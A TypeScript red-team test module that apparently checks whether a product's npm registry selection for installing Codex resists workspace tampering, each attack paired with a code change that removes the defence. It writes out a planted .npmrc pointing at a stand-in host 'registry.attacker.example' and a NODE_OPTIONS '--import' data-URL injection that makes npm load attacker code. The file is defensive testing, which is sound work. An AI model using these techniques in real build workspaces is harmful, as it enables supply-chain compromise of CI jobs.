import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import type { Attack } from '../../attack.ts';
import type { Product } from '../../product.ts';

const threat = 'registry-choice';
const file = 'packages/codex/src/install/registry.ts';
const elsewhere = 'https://registry.attacker.example/';

/** Asks, in a process whose folder is the workspace as that of an action is, where Codex would come from. */
async function askInWorkspace(product: Product, environment: NodeJS.ProcessEnv): Promise<string> {
  await using resources = new AsyncDisposableStack();
  const folder = await mkdtemp(path.join(tmpdir(), 'redteam-registry-'));
  resources.defer(() => rm(folder, { recursive: true, force: true }));
  const [workspace, toolCache] = [path.join(folder, 'workspace'), path.join(folder, 'tool-cache')];
  await Promise.all([workspace, toolCache].map((each) => mkdir(each)));
  await writeFile(path.join(workspace, 'package.json'), '{ "name": "demo" }');
  await writeFile(path.join(workspace, '.npmrc'), `registry=${elsewhere}\n`);
  const order = JSON.stringify([toolCache, { PATH: process.env['PATH'], HOME: folder, ...environment }]);
  const script = `import { registryOfNpm } from ${JSON.stringify(pathToFileURL(path.join(product.root, file)).href)};
process.stdout.write(await registryOfNpm(...${order}));`;
  const ask = promisify(execFile);
  const { stdout } = await ask(process.execPath, ['--input-type=module', '--eval', script], { cwd: workspace });
  return stdout;
}

export const attacks: readonly Attack[] = [
  {
    threat,
    name: 'a file .npmrc of the workspace names another registry',
    wins: 'Codex, or whatever the attacker calls so, comes from a server of theirs',
    without: [{ file, find: '      cwd: folder,\n', replace: '' }],
    run: async (product) => (await askInWorkspace(product, {})) === elsewhere,
  },
  {
    threat,
    name: 'a variable that an earlier step took from the workspace makes npm load a program',
    wins: "a program of the attacker in the agent's job, before Codex is there",
    without: [{ file, find: 'env: npmEnvironment(environment)', replace: 'env: environment' }],
    run: (product) => loadsProgram(product),
  },
];

/** Whether npm, which Node runs, obeys a variable that tells Node to load a file. */
async function loadsProgram(product: Product): Promise<boolean> {
  const said = `process.stdout.write(${JSON.stringify(elsewhere)}); process.exit(0);`;
  const program = `data:text/javascript,${encodeURIComponent(said)}`;
  return (await askInWorkspace(product, { NODE_OPTIONS: `--import=${program}` })) === elsewhere;
}
